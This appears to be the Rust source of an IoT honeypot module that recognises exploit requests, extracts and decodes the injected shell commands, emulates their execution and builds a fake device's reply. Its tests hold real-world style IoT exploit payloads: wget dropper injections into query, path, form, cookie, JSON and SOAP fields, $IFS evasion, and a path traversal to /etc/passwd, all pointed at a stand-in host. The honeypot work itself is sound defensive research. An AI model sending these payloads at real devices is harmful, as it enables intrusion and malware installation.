//! Exploit traps without I/O: which trap of the profile
//! ([`iotpot_core::trap`]) a request reaches, the command it injects (decoded
//! as it travelled, then the tricks droppers use to survive the trip
//! undone), the lines the device's shell runs, and the answer's body once
//! they ran.
//!
//! The per-source shell those lines run in, the downloads they wait for
//! and the `sleep` they ask for are the driver's.

use super::dropper::{cut, lines, pairs, percent, undo_tricks, MAX_LINES, MAX_PART};
use crate::command::{Ran, Terminal};
use crate::Step;
use iotpot_core::escape::unescape_entities;
use iotpot_core::trap::Trap;
use iotpot_shell::vfs::normalize;
use iotpot_shell::FetchResult;
use iotpot_wire::http::Request;
use regex::Regex;
use std::collections::VecDeque;

/// A profile's traps, with their regular expressions built once.
#[derive(Debug, Default)]
pub struct Traps {
    compiled: Vec<Compiled>,
}

#[derive(Debug)]
struct Compiled {
    path: Option<Regex>,
    query: Option<Regex>,
    headers: Vec<(String, Regex)>,
}

/// A request that reached a trap.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    /// The trap's index in the profile's `http.traps`.
    pub index: usize,
    /// The injected value as decoded from its transport (at most 4 KiB);
    /// for a trap that only reads, the file it reads.
    pub raw: String,
    /// The lines the device's shell runs, in order.
    pub run: Vec<String>,
    /// The command as a shell reads it, one command per line (for events).
    pub command: String,
    /// The device file the answer shows (`read`), resolved.
    pub read: Option<String>,
    /// The request lacks a header the trap requires and the trap answers
    /// that with its `challenge` (401): nothing runs, it is no hit.
    pub challenge: bool,
}

impl Traps {
    /// The traps of a profile (checked when it was loaded: a regular
    /// expression that does not build makes its trap never match).
    pub fn new(traps: &[Trap]) -> Traps {
        let build = |re: &str| -> Option<Regex> {
            if re.is_empty() {
                None
            } else {
                Regex::new(re).ok().or_else(|| Regex::new("$^").ok())
            }
        };
        let compiled = traps
            .iter()
            .map(|t| Compiled {
                // The whole path must match.
                path: (!t.path_regex.is_empty())
                    .then(|| format!("^(?:{})$", t.path_regex))
                    .and_then(|re| build(&re)),
                query: build(&t.query_regex),
                headers: t
                    .require_headers
                    .iter()
                    .filter_map(|(n, re)| Some((n.clone(), build(re)?)))
                    .collect(),
            })
            .collect();
        Traps { compiled }
    }

    /// The first trap of `traps` (the list [`Traps::new`] was built from)
    /// that `req` reaches, with what it injects.
    pub fn find(&self, traps: &[Trap], req: &Request, body: &[u8]) -> Option<Hit> {
        let path = req.path();
        traps
            .iter()
            .zip(&self.compiled)
            .enumerate()
            .find_map(|(index, (t, c))| {
                if !t.method.is_empty() && !t.method.contains(&req.method) {
                    return None;
                }
                let at = if !t.path.is_empty() {
                    (path == t.path).then_some(path.len())?
                } else if !t.path_prefix.is_empty() {
                    path.starts_with(&t.path_prefix)
                        .then_some(t.path_prefix.len())?
                } else {
                    c.path.as_ref()?.is_match(path).then_some(path.len())?
                };
                if let Some(q) = &c.query {
                    if !q.is_match(req.query()) {
                        return None;
                    }
                }
                let lacking = c.headers.iter().any(|(name, re)| {
                    req.header(name)
                        .is_none_or(|v| !re.is_match(&String::from_utf8_lossy(v)))
                });
                if lacking {
                    return (!t.challenge.is_empty()).then(|| Hit {
                        index,
                        raw: String::new(),
                        run: Vec::new(),
                        command: String::new(),
                        read: None,
                        challenge: true,
                    });
                }
                let value = if t.inject.is_empty() {
                    String::new()
                } else {
                    cut(&injected(&t.inject, req, &path[at..], body)?, MAX_PART)
                };
                let read = (!t.read.is_empty())
                    .then(|| normalize("/", &t.read.replace("{path}", &percent(path, false))));
                Some(Hit {
                    index,
                    run: to_run(&value),
                    command: lines(&value).join("\n"),
                    // What a trap that only reads was asked for: the file.
                    raw: match (&read, value.is_empty()) {
                        (Some(file), true) => file.clone(),
                        _ => value,
                    },
                    read,
                    challenge: false,
                })
            })
    }
}

/// The value where `inject` says the command is, decoded; `None` when the
/// request does not carry it.
fn injected(inject: &str, req: &Request, rest_of_path: &str, body: &[u8]) -> Option<String> {
    let (kind, name) = inject.split_once(':').unwrap_or((inject, ""));
    let text = || String::from_utf8_lossy(&body[..body.len().min(MAX_PART * 4)]).into_owned();
    let field = |s: &str| {
        pairs(s)
            .into_iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v)
    };
    match kind {
        "query" if name.is_empty() => Some(percent(req.query(), true)),
        "query" => field(req.query()),
        "form" => field(&text()),
        "path" => Some(percent(rest_of_path, false)),
        "body" => Some(text()),
        "header" => req
            .header(name)
            .map(|v| String::from_utf8_lossy(v).into_owned()),
        "cookie" => {
            let cookies = String::from_utf8_lossy(req.header("cookie")?).into_owned();
            cookies.split(';').find_map(|c| {
                let (k, v) = c.trim().split_once('=')?;
                (k == name).then(|| percent(v, false))
            })
        }
        "json" => json_value(&serde_json::from_str(&text()).ok()?, name, 0),
        "xml" => xml_text(&text(), name),
        _ => None,
    }
}

/// The first value of key `name`, at any depth (strings as they are,
/// other values as JSON).
fn json_value(v: &serde_json::Value, name: &str, depth: usize) -> Option<String> {
    if depth > 16 {
        return None;
    }
    match v {
        serde_json::Value::Object(map) => map
            .get(name)
            .map(|x| match x {
                serde_json::Value::String(s) => s.clone(),
                other => other.to_string(),
            })
            .or_else(|| map.values().find_map(|x| json_value(x, name, depth + 1))),
        serde_json::Value::Array(list) => list.iter().find_map(|x| json_value(x, name, depth + 1)),
        _ => None,
    }
}

/// The text of the first element `name` (any namespace prefix), entities
/// undone.
fn xml_text(doc: &str, name: &str) -> Option<String> {
    let mut from = 0;
    while let Some(i) = doc[from..].find(name).map(|i| i + from) {
        from = i + name.len();
        let before = doc[..i].chars().next_back();
        let after = doc[from..].chars().next();
        let opens = match before {
            Some('<') => true,
            // `<u:NewStatusURL>`: a prefix back to the `<`.
            Some(':') => doc[..i - 1].rfind('<').is_some_and(|lt| {
                doc[lt + 1..i - 1]
                    .chars()
                    .all(|c| c.is_alphanumeric() || c == '_' || c == '-')
            }),
            _ => false,
        };
        if !opens || !matches!(after, Some('>' | ' ' | '\t' | '\r' | '\n')) {
            continue;
        }
        let start = from + doc[from..].find('>')? + 1;
        let end = doc[start..].find("</").map_or(doc.len(), |e| start + e);
        return Some(unescape_entities(&doc[start..end]));
    }
    None
}

/// The lines the shell runs for an injected value: its own lines, with
/// `${IFS}` and `\xNN` undone. A value that opens with a quote closes the
/// firmware's quote around the field (`';wget ...;'`): it runs inside
/// that quote, as in the firmware's line. A line the shell cannot parse
/// (the field's quoting cut it in half) is run as the commands it holds.
fn to_run(raw: &str) -> Vec<String> {
    let text = undo_tricks(raw);
    let mut out = Vec::new();
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        let line = match line.chars().next() {
            Some(q @ ('\'' | '"')) => format!("true {q}{line}{q}"),
            _ => line.to_string(),
        };
        if iotpot_shell::parser::parse(line.as_bytes()).is_ok() {
            out.push(line);
        } else {
            out.extend(lines(&line));
        }
        if out.len() >= MAX_LINES {
            out.truncate(MAX_LINES);
            break;
        }
    }
    out
}

/// A hit's lines running in the source's shell (its [`Terminal`], which
/// keeps the source's files between requests), one by one, each waiting
/// for the downloads it makes.
#[derive(Debug)]
pub struct Run {
    lines: VecDeque<Vec<u8>>,
    /// The line to run again once its download is in.
    again: Option<Vec<u8>>,
    /// What the lines printed, in order.
    pub output: Vec<u8>,
    /// The milliseconds of `sleep` they asked for.
    pub slept_ms: u64,
}

impl Run {
    pub fn new(hit: &Hit) -> Run {
        Run {
            lines: hit.run.iter().map(|l| l.clone().into_bytes()).collect(),
            again: None,
            output: Vec::new(),
            slept_ms: 0,
        }
    }

    /// Run lines until one waits for a download (`false`, with
    /// [`Step::wait`] set: fetch it and hand it to [`Run::fetched`]) or
    /// all have run (`true`). Their events go into `step`.
    pub fn advance(&mut self, term: &mut Terminal, now: i64, step: &mut Step) -> bool {
        while let Some(line) = self.again.take().or_else(|| self.lines.pop_front()) {
            match term.run(line, now, step) {
                Ran::Waiting => return false,
                Ran::Done {
                    output, slept_ms, ..
                } => {
                    self.output.extend_from_slice(&output);
                    self.slept_ms = self.slept_ms.saturating_add(slept_ms);
                }
            }
        }
        true
    }

    /// The download the waiting line asked for.
    pub fn fetched(&mut self, term: &mut Terminal, url: &str, result: FetchResult) {
        self.again = term.fetched(url, result);
    }
}

/// The answer's body: the trap's, with the command's output and the file
/// it reads filled in.
pub fn body(trap: &Trap, output: &[u8], file: Option<&[u8]>) -> Vec<u8> {
    let output = String::from_utf8_lossy(output);
    let file = String::from_utf8_lossy(file.unwrap_or_default());
    let mut out = trap.body.clone();
    for (name, value) in [
        ("{output}", output.to_string()),
        ("{output_js}", js(&output)),
        ("{output_xml}", xml(&output)),
        ("{file}", file.to_string()),
        ("{file_js}", js(&file)),
    ] {
        if out.contains(name) {
            out = out.replace(name, &value);
        }
    }
    out.into_bytes()
}

/// Escaped for a JavaScript or JSON string.
fn js(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// Escaped for XML text.
fn xml(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

#[cfg(test)]
mod tests {
    use super::*;
    use iotpot_wire::http::parse_head;

    fn trap(toml_text: &str) -> Trap {
        toml::from_str(toml_text).unwrap()
    }

    fn find(t: &Trap, raw: &[u8]) -> Option<Hit> {
        let (req, n) = parse_head(raw).unwrap().unwrap();
        let list = std::slice::from_ref(t);
        Traps::new(list).find(list, &req, &raw[n..])
    }

    #[test]
    fn where_the_command_sits() {
        let t = trap("id = \"q\"\npath = \"/shell\"\ninject = \"query\"");
        let h = find(
            &t,
            b"GET /shell?cd+/tmp;wget+http://192.0.2.7/j HTTP/1.1\r\n\r\n",
        )
        .unwrap();
        assert_eq!(h.raw, "cd /tmp;wget http://192.0.2.7/j");
        assert_eq!(h.run, ["cd /tmp;wget http://192.0.2.7/j"]);
        assert_eq!(h.command, "cd /tmp\nwget http://192.0.2.7/j");
        assert!(find(&t, b"GET /shellx?id HTTP/1.1\r\n\r\n").is_none());

        let t = trap("id = \"p\"\npath_prefix = \"/cgi-bin/;\"\ninject = \"path\"");
        let h = find(
            &t,
            b"GET /cgi-bin/;wget$IFShttp://192.0.2.7/r HTTP/1.1\r\n\r\n",
        )
        .unwrap();
        assert_eq!(h.run, ["wget http://192.0.2.7/r"]);

        let t = trap("id = \"x\"\npath = \"/ctrlt/DeviceUpgrade_1\"\nmethod = [\"POST\"]\ninject = \"xml:NewStatusURL\"\nrequire_headers = { Authorization = \".\" }");
        let soap = b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nAuthorization: Digest x\r\n\r\n<s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.7 -l /tmp/m -r /m &amp;&amp; echo ok)</NewStatusURL></u:Upgrade>";
        let h = find(&t, soap).unwrap();
        assert_eq!(
            h.raw,
            "$(/bin/busybox wget -g 192.0.2.7 -l /tmp/m -r /m && echo ok)"
        );
        let no_auth =
            b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(id)</NewStatusURL>";
        assert!(find(&t, no_auth).is_none());
        let get = [b"GET".as_slice(), &soap[4..]].concat();
        assert!(find(&t, &get).is_none());

        let t = trap("id = \"j\"\npath = \"/api\"\ninject = \"json:country\"");
        let h = find(
            &t,
            br#"POST /api HTTP/1.1

{"data":{"country":"$(id)"}}"#,
        )
        .unwrap();
        assert_eq!(h.raw, "$(id)");

        let t =
            trap("id = \"f\"\npath = \"/boaform/admin/formPing\"\ninject = \"form:target_addr\"");
        let h = find(&t, b"POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=%3Bwget%20http%3A%2F%2F192.0.2.7%2Fg&waninf=1").unwrap();
        assert_eq!(h.raw, ";wget http://192.0.2.7/g");
        assert!(find(&t, b"POST /boaform/admin/formPing HTTP/1.1\r\n\r\nwaninf=1").is_none());

        let t = trap("id = \"c\"\npath = \"/\"\ninject = \"cookie:sid\"");
        let h = find(&t, b"GET / HTTP/1.1\r\nCookie: a=1; sid=%60id%60\r\n\r\n").unwrap();
        assert_eq!(h.raw, "`id`");

        let t = trap("id = \"g\"\npath = \"/GponForm/diag_Form\"\nquery_regex = \"images/\"");
        assert!(find(&t, b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n").is_some());
        assert!(find(&t, b"POST /GponForm/diag_Form HTTP/1.1\r\n\r\n").is_none());
    }

    #[test]
    fn reads_resolve_the_path() {
        let t = trap("id = \"r\"\npath_regex = \"/(\\\\.\\\\./)*etc/.*\"\nread = \"{path}\"");
        let h = find(&t, b"GET /../../../etc/passwd HTTP/1.0\r\n\r\n").unwrap();
        assert_eq!(h.read.as_deref(), Some("/etc/passwd"));
        assert_eq!(h.raw, "/etc/passwd");
        assert!(h.run.is_empty());
        assert!(
            find(&t, b"GET /x/etc/passwd HTTP/1.0\r\n\r\n").is_none(),
            "anchored"
        );
    }

    #[test]
    fn a_line_the_shell_cannot_parse_runs_as_its_commands() {
        assert_eq!(
            to_run("';wget http://192.0.2.7/a;'"),
            ["true '';wget http://192.0.2.7/a;''"]
        );
        // An unclosed quote: the commands it holds.
        assert_eq!(
            to_run("cd /tmp; wget 'http://192.0.2.7/a"),
            ["cd /tmp", "wget 'http://192.0.2.7/a"]
        );
        assert_eq!(to_run("a\n\nb"), ["a", "b"]);
    }

    #[test]
    fn bodies_reflect_where_the_device_does() {
        let t = trap("id = \"b\"\npath = \"/\"\nbody = \"diag_result = \\\"{output_js}\\\\nNo traceroute test.\\\" <x>{output_xml}</x>\"");
        let b = body(&t, b"a\"b\n<c>", None);
        assert_eq!(
            String::from_utf8(b).unwrap(),
            "diag_result = \"a\\\"b\\n<c>\\nNo traceroute test.\" <x>a\"b\n&lt;c&gt;</x>"
        );
    }
}
